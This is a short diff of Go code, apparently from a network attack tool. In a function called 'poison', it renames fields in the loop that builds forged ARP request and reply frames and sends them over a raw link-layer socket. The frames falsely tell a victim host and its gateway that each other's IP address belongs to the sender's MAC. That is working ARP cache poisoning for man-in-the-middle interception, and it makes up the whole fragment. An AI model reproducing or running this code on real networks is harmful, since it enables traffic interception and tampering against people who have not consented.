@@ -223,15 +223,15 @@ func (w *wire) poison(s spoofing) error {
 		}
 	}
 	for _, lie := range []struct {
-		claimed, told netip.Addr
-		toldMAC       net.HardwareAddr
+		claimed, receiver netip.Addr
+		receiverMAC       net.HardwareAddr
 	}{{s.Gateway, s.Victim, s.VictimMAC}, {s.Victim, s.Gateway, s.GatewayMAC}} {
 		for _, operation := range []uint16{1, 2} { // a request teaches as an answer does
-			arp := append(append([]byte{}, lie.toldMAC...), w.link.HardwareAddr...)
+			arp := append(append([]byte{}, lie.receiverMAC...), w.link.HardwareAddr...)
 			arp = append(arp, 8, 6, 0, 1, 8, 0, 6, 4)
 			arp = binary.BigEndian.AppendUint16(arp, operation)
 			arp = append(append(arp, w.link.HardwareAddr...), lie.claimed.AsSlice()...)
-			arp = append(append(arp, lie.toldMAC...), lie.told.AsSlice()...)
+			arp = append(append(arp, lie.receiverMAC...), lie.receiver.AsSlice()...)
 			err := unix.Sendto(w.fd, arp, 0, &unix.SockaddrLinklayer{Ifindex: w.link.Index, Halen: 6})
 			if err != nil {
 				return err
